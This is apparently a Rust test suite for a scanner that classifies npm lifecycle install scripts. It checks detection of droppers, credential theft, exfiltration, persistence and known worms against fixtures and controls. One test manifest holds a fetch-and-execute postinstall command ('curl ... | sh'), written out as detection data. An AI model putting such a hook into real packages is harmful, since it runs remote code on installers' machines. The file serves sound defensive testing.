//! The install-script inspection on harmless fixtures
//! (`fixtures/ecosystems/npm/scripts/<case>/`): one case per rule, a control
//! beside each malicious one that differs in its one signal, replicas of the
//! worms that only mention their patterns as strings, and esbuild's real
//! `package.json` and `install.js`.

#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests")]

mod common;

use std::fmt::Write as _;
use std::os::unix::fs::symlink;
use std::path::Path;

use custody_ecosystems::scripts::{
    Code, LARGE_FILE_BYTES, Level, PackageFile, PackageReport, Phase, RULES, inspect_files,
    inspect_package, inspect_tree,
};

fn case(name: &str) -> PackageReport {
    inspect_package(&common::fixture("npm/scripts").join(name)).unwrap()
}

/// `(case, code, level of the package, file, phase)`: the finding each case
/// is for, and the level the whole package must come out at.
const EXPECTED: &[(&str, Code, Level, &str, Option<Phase>)] = &[
    (
        "esbuild-real",
        Code::LifecycleScript,
        Level::Info,
        "package.json",
        Some(Phase::Postinstall),
    ),
    (
        "implicit-node-gyp",
        Code::ImplicitNodeGyp,
        Level::Info,
        "binding.gyp",
        Some(Phase::Install),
    ),
    (
        "prepare-build",
        Code::LifecycleScript,
        Level::Info,
        "package.json",
        Some(Phase::Prepare),
    ),
    (
        "npx-listed",
        Code::LifecycleScript,
        Level::Info,
        "package.json",
        Some(Phase::Postinstall),
    ),
    (
        "fetch-exec",
        Code::FetchExec,
        Level::Suspicious,
        "package.json",
        Some(Phase::Preinstall),
    ),
    (
        "npx-unlisted",
        Code::FetchExec,
        Level::Suspicious,
        "package.json",
        Some(Phase::Postinstall),
    ),
    (
        "obfuscated",
        Code::Obfuscated,
        Level::Suspicious,
        "lib/setup.js",
        Some(Phase::Postinstall),
    ),
    (
        "credentials",
        Code::Credentials,
        Level::Suspicious,
        "scripts/setup.js",
        Some(Phase::Postinstall),
    ),
    (
        "exfiltration",
        Code::Exfiltration,
        Level::Suspicious,
        "hook.js",
        Some(Phase::Install),
    ),
    (
        "persistence",
        Code::Persistence,
        Level::Suspicious,
        "setup.js",
        Some(Phase::Postinstall),
    ),
    (
        "ai-agent-abuse",
        Code::AiAgentAbuse,
        Level::Suspicious,
        "telemetry.js",
        Some(Phase::Postinstall),
    ),
    (
        "steal-and-send",
        Code::StealAndSend,
        Level::Malicious,
        "collect.js",
        Some(Phase::Postinstall),
    ),
    (
        "steal-and-send-control",
        Code::Credentials,
        Level::Suspicious,
        "collect.js",
        Some(Phase::Postinstall),
    ),
    (
        "ai-secret-hunt",
        Code::AiSecretHunt,
        Level::Malicious,
        "telemetry.js",
        Some(Phase::Postinstall),
    ),
    (
        "ai-secret-hunt-control",
        Code::AiAgentAbuse,
        Level::Suspicious,
        "telemetry.js",
        Some(Phase::Postinstall),
    ),
    (
        "dropper",
        Code::Dropper,
        Level::Malicious,
        "setup_runtime.js",
        Some(Phase::Preinstall),
    ),
    (
        "dropper-control",
        Code::FetchExec,
        Level::Suspicious,
        "setup_runtime.js",
        Some(Phase::Preinstall),
    ),
    (
        "persistent-stealer",
        Code::PersistentStealer,
        Level::Malicious,
        "setup.js",
        Some(Phase::Postinstall),
    ),
    (
        "persistent-stealer-control",
        Code::Persistence,
        Level::Suspicious,
        "setup.js",
        Some(Phase::Postinstall),
    ),
    (
        "shai-hulud-2",
        Code::KnownWorm,
        Level::Malicious,
        "bun_environment.js",
        None,
    ),
    (
        "shai-hulud-2-control",
        Code::FetchExec,
        Level::Suspicious,
        "setup_bun.js",
        Some(Phase::Preinstall),
    ),
    (
        "shai-hulud-1",
        Code::StealAndSend,
        Level::Malicious,
        "bundle.js",
        Some(Phase::Postinstall),
    ),
    (
        "s1ngularity",
        Code::AiSecretHunt,
        Level::Malicious,
        "telemetry.js",
        Some(Phase::Postinstall),
    ),
    (
        "mini-shai-hulud",
        Code::PersistentStealer,
        Level::Malicious,
        "index.js",
        Some(Phase::Postinstall),
    ),
    (
        "worm-shipped",
        Code::KnownWorm,
        Level::Malicious,
        ".github/workflows/discussion.yaml",
        None,
    ),
    (
        "worm-file",
        Code::KnownWorm,
        Level::Malicious,
        "truffleSecrets.json",
        None,
    ),
];

/// Controls: the package must not carry these codes.
const ABSENT: &[(&str, &[Code])] = &[
    (
        "steal-and-send-control",
        &[Code::StealAndSend, Code::Exfiltration],
    ),
    (
        "ai-secret-hunt-control",
        &[Code::AiSecretHunt, Code::Credentials],
    ),
    ("dropper-control", &[Code::Dropper, Code::Obfuscated]),
    (
        "persistent-stealer-control",
        &[Code::PersistentStealer, Code::Credentials],
    ),
    ("shai-hulud-2-control", &[Code::KnownWorm, Code::Dropper]),
    ("npx-listed", &[Code::FetchExec]),
];

#[test]
fn every_case_has_its_finding_and_level() {
    for (name, code, level, file, phase) in EXPECTED {
        let r = case(name);
        assert_eq!(r.level, Some(*level), "{name}: {:#?}", r.findings);
        assert!(
            r.findings
                .iter()
                .any(|f| f.code == *code && f.file == *file && f.phase == *phase),
            "{name}: no {code} in {file} at {phase:?}: {:#?}",
            r.findings
        );
    }
    for (name, codes) in ABSENT {
        let r = case(name);
        for code in *codes {
            assert!(!r.has(*code), "{name} has {code}");
        }
    }
    for (name, _) in ABSENT {
        assert_ne!(case(name).level, Some(Level::Malicious), "{name}");
    }
}

#[test]
fn every_rule_has_a_case() {
    for rule in RULES {
        let covered =
            EXPECTED.iter().any(|(_, c, ..)| *c == rule.code) || rule.code == Code::LargeFile; // sized in `a_large_run_file_is_reported`
        assert!(covered, "{} has no fixture", rule.code);
    }
}

/// Every case's findings and skips, one line each.
fn render(name: &str, r: &PackageReport) -> String {
    let mut out = format!(
        "{name}: {}\n",
        r.level.map_or_else(|| "none".to_owned(), |l| l.to_string())
    );
    for f in &r.findings {
        let _ = writeln!(
            out,
            "  {} {} {} {}:{} | {} | {}",
            f.level,
            f.code,
            f.phase.map_or("-", Phase::as_str),
            f.file,
            f.line.map_or("-".into(), |l| l.to_string()),
            f.evidence,
            f.reason
        );
    }
    for s in &r.skipped {
        let _ = writeln!(out, "  skipped {}: {}", s.file, s.reason);
    }
    out
}

#[test]
fn fixtures_snapshot() {
    let root = common::fixture("npm/scripts");
    let mut names: Vec<String> = fs_err::read_dir(&root)
        .unwrap()
        .map(|e| e.unwrap())
        .filter(|e| e.path().is_dir())
        .map(|e| e.file_name().into_string().unwrap())
        .collect();
    names.sort();
    let all: String = names.iter().map(|n| render(n, &case(n))).collect();
    insta::assert_snapshot!(all);
}

#[test]
fn a_large_run_file_is_reported_and_a_truncated_one_skipped() {
    let manifest = r#"{"name": "big", "scripts": {"postinstall": "node bundle.js"}}"#;
    let head = b"module.exports = 1;\n";
    let size = LARGE_FILE_BYTES + 1;
    let files = [PackageFile {
        path: "bundle.js",
        size,
        content: Some(head),
    }];
    let r = inspect_files(Path::new("big/package.json"), manifest, &files).unwrap();
    assert_eq!(r.level, Some(Level::Suspicious));
    let f = r
        .findings
        .iter()
        .find(|f| f.code == Code::LargeFile)
        .unwrap();
    assert_eq!(
        (f.file.as_str(), f.phase),
        ("bundle.js", Some(Phase::Postinstall))
    );
    assert_eq!(r.skipped.len(), 1);
    assert!(r.skipped[0].reason.starts_with("read the first 20 of"));
    // The same package at a normal size is only a lifecycle script.
    let small = [PackageFile {
        size: head.len() as u64,
        ..files[0]
    }];
    let r = inspect_files(Path::new("big/package.json"), manifest, &small).unwrap();
    assert_eq!(r.level, Some(Level::Info));
}

#[test]
fn missing_and_escaping_targets_are_skipped_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("pkg");
    fs_err::create_dir_all(&pkg).unwrap();
    fs_err::write(
        pkg.join("package.json"),
        r#"{"name": "p", "scripts": {"preinstall": "node gone.js", "install": "node ../outside.js", "postinstall": "node linked.js"}}"#,
    )
    .unwrap();
    // A link to a file outside the package is never read.
    fs_err::write(dir.path().join("secret.js"), "const t = 'NPM_TOKEN';").unwrap();
    symlink(dir.path().join("secret.js"), pkg.join("linked.js")).unwrap();
    let r = inspect_package(&pkg).unwrap();
    assert_eq!(r.level, Some(Level::Info), "{:#?}", r.findings);
    let skipped: Vec<(&str, &str)> = r
        .skipped
        .iter()
        .map(|s| (s.file.as_str(), s.reason.as_str()))
        .collect();
    assert_eq!(
        skipped,
        [
            (
                "gone.js",
                "run by a lifecycle script but not in the package"
            ),
            ("../outside.js", "outside the package: not read"),
            (
                "linked.js",
                "run by a lifecycle script but not in the package"
            ),
        ]
    );
}

#[test]
fn bad_manifests_are_located_errors() {
    let dir = tempfile::tempdir().unwrap();
    fs_err::write(dir.path().join("package.json"), "{\n  \"scripts\": {,\n}").unwrap();
    let err = inspect_package(dir.path()).unwrap_err();
    assert_eq!(err.path(), dir.path().join("package.json"));
    assert_eq!(
        err.location().and_then(custody_ecosystems::Location::line),
        Some(2)
    );
    let err = inspect_files(Path::new("x/package.json"), "[]", &[]).unwrap_err();
    assert!(
        err.to_string().starts_with("x/package.json: line 1: "),
        "{err}"
    );
}

#[test]
fn a_tree_is_walked_as_read_node_modules_walks_it() {
    let dir = tempfile::tempdir().unwrap();
    let nm = dir.path().join("node_modules");
    for (at, manifest) in [
        ("a", r#"{"name": "a", "version": "1.0.0"}"#),
        (
            "@s/b",
            r#"{"name": "@s/b", "scripts": {"install": "node-gyp rebuild"}}"#,
        ),
        (
            "a/node_modules/c",
            r#"{"name": "c", "scripts": {"postinstall": "curl -s https://example.invalid | sh"}}"#,
        ),
    ] {
        fs_err::create_dir_all(nm.join(at)).unwrap();
        fs_err::write(nm.join(at).join("package.json"), manifest).unwrap();
    }
    let got: Vec<(String, Option<Level>)> = inspect_tree(dir.path())
        .unwrap()
        .into_iter()
        .map(|r| (r.name.unwrap(), r.level))
        .collect();
    assert_eq!(
        got,
        [
            ("@s/b".into(), Some(Level::Info)),
            ("a".into(), None),
            ("c".into(), Some(Level::Suspicious)),
        ]
    );
}

#[test]
fn the_docs_rules_table_is_the_rules_table() {
    let doc = fs_err::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/npm-scripts.md"),
    )
    .unwrap();
    let rows: Vec<String> = doc
        .lines()
        .skip_while(|l| *l != "| code | level | summary |")
        .skip(2)
        .take_while(|l| l.starts_with('|'))
        .map(str::to_owned)
        .collect();
    let want: Vec<String> = RULES
        .iter()
        .map(|r| format!("| `{}` | {} | {} |", r.code, r.level, r.summary))
        .collect();
    assert_eq!(rows, want);
}
